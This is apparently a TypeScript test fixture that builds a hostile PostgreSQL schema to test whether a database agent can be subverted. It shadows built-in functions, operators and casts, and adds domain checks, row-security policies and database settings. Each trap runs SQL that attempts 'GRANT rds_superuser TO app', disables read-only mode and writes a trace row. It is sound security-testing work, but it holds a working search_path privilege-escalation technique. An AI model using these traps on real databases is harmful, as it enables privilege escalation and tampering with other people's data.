import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from 'pg';

const AGENT = join(__dirname, '../../../agent/postgres');

/**
 * What the owner of a database can lay out for anyone who reads it: everything that looks like something else's and runs a
 * function of his. Each function tries to make him an administrator, to write, and to leave a setting behind.
 */
export class HostileSchema {
  private functions = 0;
  readonly refused: string[] = [];

  constructor(private readonly owner: Client) {}

  /** How many functions of the owner lie in wait. */
  get traps(): number {
    return this.functions;
  }

  async lay(): Promise<void> {
    await this.owner.query('CREATE TABLE public.trace (what text); INSERT INTO public.trace VALUES (NULL)');
    await this.impersonateFunctions();
    await this.impersonateOperators();
    await this.castTypes();
    await this.checkDomains();
    await this.hideRows();
    await this.setDefaults();
  }

  /** Every function that the agent calls by name, with arguments that fit better than the engine's own. */
  private async impersonateFunctions(): Promise<void> {
    const called = namesCalled();
    const { rows } = await this.owner.query<{ name: string; types: string[]; result: string; kind: string }>(
      `SELECT proname AS name, ARRAY(SELECT format_type(t, NULL) FROM unnest(proargtypes) AS t) AS types,
         format_type(prorettype, NULL) AS result, prokind AS kind
       FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND proname = ANY($1) AND pronargs BETWEEN 0 AND 3`,
      [called],
    );
    for (const { name, types, result } of rows) {
      for (const closer of closerTypes(types)) await this.trap(`public.${name}`, closer, speakable(result));
    }
  }

  /** `name <> unknown` and the like meet the engine's operators only where the search path is empty. */
  private async impersonateOperators(): Promise<void> {
    const types = ['name', 'text', 'oid', '"char"', 'bigint', 'integer', 'boolean', 'character varying'];
    for (const operator of ['=', '<>', '<', '>', '<=', '>=', '~', '!~', '~*', '||', '-', '+', '*', '/']) {
      for (const left of types) {
        for (const right of types) {
          if (left === right) continue;
          const trap = await this.trap(`public.op${this.functions}`, [left, right], 'boolean');
          await this.lays(
            `CREATE OPERATOR public.${operator} (LEFTARG = ${left}, RIGHTARG = ${right}, FUNCTION = ${trap})`,
          );
        }
      }
    }
  }

  /** The owner of a type decides what a cast from it, or to it, does. */
  private async castTypes(): Promise<void> {
    await this.owner.query(`CREATE TYPE public.mood AS ENUM ('sad', 'glad');
      CREATE TYPE public.pair AS (a int, b text);
      CREATE TABLE public.cast_away (id public.mood PRIMARY KEY, both_of public.pair, note text);
      INSERT INTO public.cast_away VALUES ('sad', ROW(1, 'x'), 'n'), ('glad', NULL, NULL)`);
    for (const type of ['mood', 'pair', 'cast_away']) {
      for (const other of ['text', 'json', 'character varying', 'name', 'boolean']) {
        const out = await this.trap(`public.cast${this.functions}`, [`public.${type}`], other);
        await this.lays(`CREATE CAST (public.${type} AS ${other}) WITH FUNCTION ${out}(public.${type}) AS IMPLICIT`);
      }
      const back = await this.trap(`public.cast${this.functions}`, ['text'], `public.${type}`);
      await this.lays(`CREATE CAST (text AS public.${type}) WITH FUNCTION ${back}(text) AS IMPLICIT`);
    }
  }

  /** A domain's CHECK runs wherever a text is read as a value of it, in a composite type too. */
  private async checkDomains(): Promise<void> {
    const check = await this.trap('public.checked', ['integer'], 'boolean');
    await this.owner.query(`CREATE DOMAIN public.watched AS integer CHECK (${check}(VALUE));
      CREATE DOMAIN public.twice_watched AS public.watched;
      CREATE TYPE public.holder AS (w public.watched);
      CREATE TYPE public.span AS RANGE (SUBTYPE = integer);
      CREATE TABLE public.by_domain (id public.twice_watched PRIMARY KEY, note text);
      CREATE TABLE public.by_holder (id public.holder PRIMARY KEY, note text);
      CREATE TABLE public.by_span (id public.span PRIMARY KEY, note public.watched);
      INSERT INTO public.by_domain SELECT i, 'n' FROM generate_series(1, 40) AS i;
      INSERT INTO public.by_holder SELECT ROW(i)::public.holder, 'n' FROM generate_series(1, 40) AS i;
      INSERT INTO public.by_span SELECT public.span(i, i + 1), i FROM generate_series(1, 40) AS i`);
  }

  private async hideRows(): Promise<void> {
    const using = await this.trap('public.policed', [], 'boolean');
    await this.owner.query(`CREATE TABLE public.tenants (id int PRIMARY KEY, tenant text);
      INSERT INTO public.tenants SELECT i, 't' FROM generate_series(1, 50) AS i;
      ALTER TABLE public.tenants ENABLE ROW LEVEL SECURITY;
      CREATE POLICY mine ON public.tenants USING (${using}());
      CREATE VIEW public.rich AS SELECT id FROM public.tenants WHERE ${using}();
      CREATE TABLE public.parent (id int PRIMARY KEY);
      CREATE TABLE public.child (more text) INHERITS (public.parent)`);
  }

  /** A database's owner sets what its sessions begin with. */
  private async setDefaults(): Promise<void> {
    const { rows } = await this.owner.query<{ database: string }>('SELECT current_database() AS database');
    const database = rows[0]?.database;
    for (const setting of [
      'search_path = public, pg_catalog',
      'row_security = on',
      'default_transaction_read_only = off',
      'standard_conforming_strings = off',
      'quote_all_identifiers = on',
    ]) {
      await this.owner.query(`ALTER DATABASE ${database} SET ${setting}`);
    }
  }

  /** Makes a function that does all the harm it can, and gives a value of its type back. */
  private async trap(name: string, types: readonly string[], result: string): Promise<string> {
    const laid = await this.lays(
      `CREATE OR REPLACE FUNCTION ${name}(${types.join(', ')}) RETURNS ${result} LANGUAGE plpgsql AS $evil$
       BEGIN
         PERFORM pg_catalog.set_config('default_transaction_read_only', 'off', false);
         PERFORM pg_catalog.set_config('search_path', 'public, pg_catalog', false);
         BEGIN EXECUTE 'GRANT rds_superuser TO app'; EXCEPTION WHEN OTHERS THEN NULL; END;
         BEGIN UPDATE public.trace SET what = '${name.replaceAll("'", '')}'; EXCEPTION WHEN OTHERS THEN NULL; END;
         RETURN ${result === 'boolean' ? 'true' : 'NULL'};
       END $evil$`,
    );
    if (laid) this.functions += 1;
    return name;
  }

  private async lays(statement: string): Promise<boolean> {
    try {
      await this.owner.query(statement);
      return true;
    } catch (error) {
      this.refused.push(`${error instanceof Error ? error.message : String(error)}: ${statement.slice(0, 120)}`);
      return false;
    }
  }
}

/** Functions of the engine that stand in the agent's statements. */
function namesCalled(): string[] {
  const sources = readdirSync(AGENT, { recursive: true })
    .map(String)
    .filter((file) => file.endsWith('.ts'))
    .map((file) => readFileSync(join(AGENT, file), 'utf8'));
  return [...new Set(sources.flatMap((text) => [...text.matchAll(/\b([a-z_]+)\(/g)].map(([, name]) => String(name))))];
}

/** With each argument as the narrower type that a catalogue's column has. */
function closerTypes(types: readonly string[]): string[][] {
  const closer: Readonly<Record<string, readonly string[]>> = {
    text: ['name', 'character varying', '"char"'],
    '"any"': ['name', 'text', 'oid', 'integer', 'bigint', 'boolean', 'json', 'public.trace'],
    anyelement: ['name', 'text', 'oid', 'integer', 'bigint'],
    anycompatible: ['name', 'text', 'integer'],
    bigint: ['oid', 'smallint', 'integer'],
    integer: ['smallint'],
    regclass: ['oid', 'name'],
    oid: ['regclass', 'integer', 'bigint'],
    numeric: ['bigint', 'integer'],
    name: ['text'],
    'double precision': ['real', 'integer'],
  };
  return types.flatMap((type, place) =>
    (closer[type] ?? []).map((other) =>
      types.map((each, at) => (at === place || (each === type && type === 'text') ? other : each)),
    ),
  );
}

/** A polymorphic result has no meaning without a polymorphic argument. */
function speakable(result: string): string {
  return /^(any|"any"|internal|trigger|void|record)/.test(result) ? 'text' : result;
}
